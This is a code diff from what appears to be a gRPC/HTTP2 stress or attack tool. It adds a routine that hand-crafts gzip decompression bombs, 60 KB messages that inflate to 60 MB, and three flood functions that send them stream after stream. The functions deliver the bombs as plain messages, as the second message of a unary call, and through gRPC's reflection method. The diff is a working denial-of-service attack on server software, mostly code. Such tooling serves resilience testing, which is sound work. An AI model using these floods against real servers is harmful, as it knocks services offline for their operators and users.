@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import itertools
 import time
 import zlib
@@ -290,20 +291,48 @@ def many_messages(attacker: Attacker) -> None:
     attacker.flood(repeated(frames.frame(DATA, 0, 1, bytes(5) * 3000)), conn)
 
 
-def gzip_messages(attacker: Attacker) -> None:
-    """Messages of 60 KB that inflate to 60 MB each, on one stream after another."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    bomb = packer.compress(bytes(60 << 20)) + packer.flush()
-    message = b"\1" + len(bomb).to_bytes(4) + bomb
-    parts = [message[at : at + 16384] for at in range(0, len(message), 16384)]
+def _gzipped_zeros(mebibytes: int) -> bytes:
+    """Returns zeros in gzip's format; one compressed block is repeated, as packing all would take the attack's time."""
+    zeros = bytes(1 << 20)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
+    crc = functools.reduce(lambda crc, _: zlib.crc32(zeros, crc), range(mebibytes), 0)
+    head, end = b"\x1f\x8b\x08" + bytes(6) + b"\xff", b"\x03\x00"
+    return head + block * mebibytes + end + crc.to_bytes(4, "little") + (mebibytes << 20).to_bytes(4, "little")
+
+
+_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+
+
+def _gzip_bombs(attacker: Attacker, begun: bytes = b"", path: str = "") -> None:
+    """Calls a method on one stream after another; `begun` comes in front of a message that inflates to 60 MB."""
+    bomb = _gzipped_zeros(60)
+    body = begun + b"\1" + len(bomb).to_bytes(4) + bomb
+    parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
+    head = attacker.target.fields((b"grpc-encoding", b"gzip"), path=path)
     conn = attacker.http2()
 
     def asked() -> Iterator[bytes]:
         for stream in _streams():
-            sent = [attacker.target.open_request(stream, (b"grpc-encoding", b"gzip"))]
+            sent = [frames.frame(HEADERS, END_HEADERS, stream, head)]
             sent += [frames.frame(DATA, 0, stream, part) for part in parts[:-1]]
             yield b"".join([*sent, frames.frame(DATA, 1, stream, parts[-1])])
             # Reads answers and WINDOW_UPDATEs for a moment, so that the server has room for the next message.
             conn.wait(min(time.monotonic() + 0.02, attacker.end_s))
 
     attacker.flood(asked(), conn)
+
+
+def gzip_messages(attacker: Attacker) -> None:
+    """Messages of 60 KB that inflate to 60 MB each, on one stream after another."""
+    _gzip_bombs(attacker)
+
+
+def second_gzip_messages(attacker: Attacker) -> None:
+    """The same, each as the second message of a unary call whose first is empty and not compressed."""
+    _gzip_bombs(attacker, bytes(5))
+
+
+def stream_gzip_messages(attacker: Attacker) -> None:
+    """The same, each as the second message of a call of gRPC's reflection, which may have many."""
+    _gzip_bombs(attacker, bytes(5), _REFLECTION)
